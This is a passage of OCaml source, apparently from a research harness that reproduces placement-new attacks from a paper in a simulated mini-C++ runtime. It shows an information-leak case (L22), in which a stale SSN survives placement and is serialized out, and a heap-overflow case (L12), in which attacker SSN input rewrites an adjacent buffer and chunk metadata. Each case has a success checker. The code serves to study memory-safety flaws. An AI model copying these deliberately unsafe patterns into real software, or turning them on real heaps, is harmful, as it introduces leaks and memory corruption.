    initializes the first 16 bytes, so the SSN survives in the tail and is
    shipped out when the object is serialized. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let ssn0 = 123456789
let ssn1 = 987654321
let ssn2 = 55555

let mk_program ~checked =
  program ~classes:Schema.base_classes
    ~globals:[ global "gst" (ptr (cls "GradStudent")) ]
    (Schema.base_funcs
    @ [
        func "main"
          ([
             set (v "gst") (new_ (cls "GradStudent") []);
             expr (mcall (v "gst") "setSSN" [ i ssn0; i ssn1; i ssn2 ]);
           ]
          @ (if checked then
               [ expr (call "memset" [ v "gst"; i 0; sizeof (cls "GradStudent") ]) ]
             else [])
          @ [
              decli "st" (ptr (cls "Student")) (pnew (v "gst") (cls "Student") []);
              (* store(st): serializes the arena starting at st *)
              expr (call "store" [ v "st"; sizeof (cls "GradStudent") ]);
              ret (i 0);
            ]);
      ])

let le_bytes w = String.init 4 (fun k -> Char.chr ((w lsr (8 * k)) land 0xff))

let check _m (o : O.t) =
  if D.output_contains o (le_bytes ssn0) && D.output_contains o (le_bytes ssn1)
  then C.success "SSN bytes survived the placement and were serialized out"
  else C.failure "no SSN in serialized output (status %a)" O.pp_status o.O.status

let attack =
  C.make ~id:"L22-leakobj" ~listing:22 ~section:"4.3"
    ~name:"information leakage via object placement" ~segment:C.Heap
    ~goal:"read a previous object's secret fields through the reused arena"
    ~program:(mk_program ~checked:false)
    ~hardened:(mk_program ~checked:true)
    ~mk_input:(fun _m -> ([], []))
    ~check ()
