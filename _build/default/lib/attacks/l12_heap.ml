(** §3.5.1, Listing 12 — Heap overflow.

    A [Student] is heap-allocated, then a 16-byte [name] buffer right after
    it. Placing a [GradStudent] over the Student block makes ssn[0]/ssn[1]
    alias the allocator header of the name block and ssn[2] alias
    name[0..3]: the attacker's SSN rewrites the victim string (and, as on a
    real glibc heap, tramples the chunk metadata on the way).

    Note: the paper's listing places at an uninitialized [stud] pointer —
    a null placement that would fault immediately; following the authors'
    evident intent we first allocate the Student. *)

open Pna_minicpp.Dsl
module C = Catalog
module D = Driver
module O = Pna_minicpp.Outcome

let program_ =
  program ~classes:Schema.base_classes
    ~globals:[ global "stud" (ptr (cls "Student")); global "name" char_p ]
    (Schema.base_funcs
    @ [
        func "main"
          [
            set (v "stud") (new_ (cls "Student") []);
            decli "st"
              (ptr (cls "GradStudent"))
              (pnew (v "stud") (cls "GradStudent") []);
            set (v "name") (new_arr char (i 16));
            expr (call "strncpy" [ v "name"; str "abcdefghijklmno"; i 16 ]);
            cout [ str "Before Attack: Name:"; v "name" ];
            set (idx (arrow (v "st") "ssn") (i 0)) cin;
            set (idx (arrow (v "st") "ssn") (i 1)) cin;
            set (idx (arrow (v "st") "ssn") (i 2)) cin;
            cout [ str "After Attack: Name:"; v "name" ];
            ret (i 0);
          ];
      ])

let check m (o : O.t) =
  if not (O.exited_normally o) then
    C.failure "did not run to completion: %a" O.pp_status o.O.status
  else if D.output_contains o "XXXXefghijklmno" then
    let name_ptr = D.global_u32 m "name" in
    C.success "heap neighbour rewritten: name=%S (chunk header smashed too)"
      (D.bytes m name_ptr 15)
  else C.failure "name intact (status %a)" O.pp_status o.O.status

let attack =
  C.make ~id:"L12-heap" ~listing:12 ~section:"3.5.1" ~name:"heap object overflow"
    ~segment:C.Heap
    ~goal:"rewrite an adjacent heap buffer (and its allocator metadata)"
    ~program:program_
    ~mk_input:(fun _m ->
      (* ssn[0]/ssn[1] hit the next chunk's header; ssn[2] = "XXXX" lands in
         name[0..3] *)
      ([ Schema.junk0; Schema.junk1; 0x58585858 ], []))
    ~check ()
